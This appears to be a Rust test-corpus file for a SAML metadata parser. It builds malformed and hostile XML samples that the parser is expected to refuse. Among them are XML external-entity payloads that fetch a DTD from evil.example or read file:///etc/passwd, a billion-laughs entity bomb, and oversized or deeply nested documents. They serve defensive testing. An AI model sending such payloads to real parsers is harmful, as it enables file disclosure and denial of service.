//! Documents that would overload or confuse a careless parser.

use saml::inspection::{InputKind, InspectionReason};

use super::{OPENING, shape};
use crate::corpus::{ExpectedResult, Sample, cert_factory::CertificateFactory};

pub(super) fn samples(workshop: &CertificateFactory) -> Vec<Sample> {
    let good = shape(&workshop.own.base64());
    let sample = |what: &str, text: String, kind: InputKind, reason: InspectionReason| {
        Sample::new(
            format!("metadata: {what}"),
            text,
            ExpectedResult::Refusal(kind, reason),
            workshop.now,
        )
    };
    let after = |what: &str| good.replacen(OPENING, &format!("{OPENING}{what}"), 1);
    let xml = InputKind::Xml;
    let laughs: String = (1..10)
        .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
        .collect();
    let attributes: String = (0..4_000).map(|n| format!(" a{n}=\"\"")).collect();
    let namespaces: String = (0..200).map(|n| format!(" xmlns:n{n}=\"u:{n}\"")).collect();
    vec![
        sample("a document type", after("<!DOCTYPE EntityDescriptor>"), xml, InspectionReason::Dtd),
        sample(
            "a document type elsewhere",
            after("<!DOCTYPE a SYSTEM \"https://evil.example/a.dtd\">"),
            xml,
            InspectionReason::Dtd,
        ),
        sample("an entity", after("<!DOCTYPE a [<!ENTITY b \"c\">]>"), xml, InspectionReason::Dtd),
        sample(
            "an entity of a file",
            after("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>"),
            xml,
            InspectionReason::Dtd,
        ),
        sample(
            "a parameter entity",
            after("<!DOCTYPE a [<!ENTITY % b SYSTEM \"https://evil.example\"> %b;]>"),
            xml,
            InspectionReason::Dtd,
        ),
        sample(
            "a billion laughs",
            after(&format!("<!DOCTYPE l [<!ENTITY l0 \"lol\">{laughs}]>")),
            xml,
            InspectionReason::Dtd,
        ),
        sample(
            "a document type in small letters",
            after("<!doctype a>"),
            xml,
            InspectionReason::Dtd,
        ),
        sample(
            "an unknown entity",
            good.replace("<md:NameIDFormat/>", "<md:NameIDFormat>&nbsp;</md:NameIDFormat>"),
            xml,
            InspectionReason::Malformed,
        ),
        sample(
            "an attribute twice",
            good.replacen("entityID=", "entityID=\"a\" entityID=", 1),
            xml,
            InspectionReason::Malformed,
        ),
        sample(
            "an attribute twice by two prefixes",
            good.replacen(
                "entityID=",
                "xmlns:a=\"u\" xmlns:b=\"u\" a:x=\"1\" b:x=\"2\" entityID=",
                1,
            ),
            xml,
            InspectionReason::Malformed,
        ),
        sample("two roots", format!("{good}<a/>"), xml, InspectionReason::Malformed),
        sample("cut", good[..good.len() - 60].to_owned(), xml, InspectionReason::Malformed),
        sample(
            "tags that cross",
            good.replacen("</md:KeyDescriptor>", "", 1),
            xml,
            InspectionReason::Malformed,
        ),
        sample(
            "a prefix of nothing",
            good.replacen("xmlns:md=", "xmlns:me=", 1),
            xml,
            InspectionReason::Malformed,
        ),
        sample(
            "typographic quotes",
            good.replacen("entityID=\"", "entityID=“", 1),
            xml,
            InspectionReason::Malformed,
        ),
        sample(
            "a control character",
            good.replacen("<md:NameIDFormat/>", "<md:NameIDFormat>\u{1}</md:NameIDFormat>", 1),
            xml,
            InspectionReason::Malformed,
        ),
        sample(
            "nested too deeply",
            format!("{}{}", "<a>".repeat(5_000), "</a>".repeat(5_000)),
            xml,
            InspectionReason::TooLarge,
        ),
        sample(
            "wide",
            format!("<a>{}</a>", "<b/>".repeat(60_000)),
            xml,
            InspectionReason::TooLarge,
        ),
        sample(
            "thousands of attributes",
            format!("<a{attributes}/>"),
            xml,
            InspectionReason::TooLarge,
        ),
        sample(
            "hundreds of namespaces",
            format!("<a{namespaces}/>"),
            xml,
            InspectionReason::TooLarge,
        ),
        sample(
            "half a megabyte",
            good.replace("<md:NameIDFormat/>", &format!("<!--{}-->", "x".repeat(500_000))),
            xml,
            InspectionReason::TooLarge,
        ),
        sample(
            "another encoding",
            good.replace("UTF-8", "ISO-8859-1"),
            xml,
            InspectionReason::Encoding,
        ),
        sample(
            "an encoding of mail",
            good.replace("UTF-8", "UTF-7"),
            xml,
            InspectionReason::Encoding,
        ),
    ]
}
